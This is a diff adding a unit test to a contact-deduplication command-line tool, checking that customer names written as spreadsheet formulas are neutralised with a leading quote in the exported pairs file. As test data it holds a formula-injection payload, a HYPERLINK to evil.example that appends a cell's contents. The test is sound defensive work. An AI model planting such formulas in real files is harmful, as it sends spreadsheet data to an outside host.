@@ -139,6 +139,22 @@ class Dedupe(clitest.CliTest):
         self.assertEqual(set(pairs), {("m1", "m2")})  # googlemail = gmail, dots and plus tags
         self.assertEqual(pairs[("m1", "m2")][1], "merge")
 
+    def test_formula_names_are_text(self):
+        """A name a customer typed as a spreadsheet formula does not run
+        when the pairs file is opened in one: name_a/name_b get a ' in
+        front, as 'patron export' writes it; the ids stay as given."""
+        evil = '=HYPERLINK("http://evil.example/?"&A1,"Rechnung")'
+        rows = [["f1", "", "", evil, "Ringstraße 3", "01067", "Dresden", "evil@example.de", "", ""],
+                ["f2", "", "", evil, "Ringstr. 3", "01067", "Dresden", "evil@example.de", "", ""],
+                ["-3", "", "Max", "+Muster", "Weg 1", "01067", "Dresden", "max@example.de", "", ""],
+                ["-4", "", "Max", "+Muster", "Weg 1", "01067", "Dresden", "max@example.de", "", ""]]
+        out, _ = self.dedupe_rows(self.write_csv("f.csv", HEADER, rows))
+        by = {(r[0], r[1]): r for r in out}
+        self.assertEqual(by[("f1", "f2")][5:], ["'" + evil, "'" + evil])
+        self.assertEqual(by[("-3", "-4")][4:], ["-3", "Max +Muster", "Max +Muster"])  # not a formula
+        r = self.run_cli("dedupe", self.path("f.csv"), db=False)
+        self.assertIn(b'"\'=HYPERLINK(""http', r.stdout)  # quoted, as OWASP advises
+
     def test_standard_input_and_quoted_ids(self):
         rows = [list(r) for r in ROWS[:2]]
         rows[0][0] = "id, with comma"
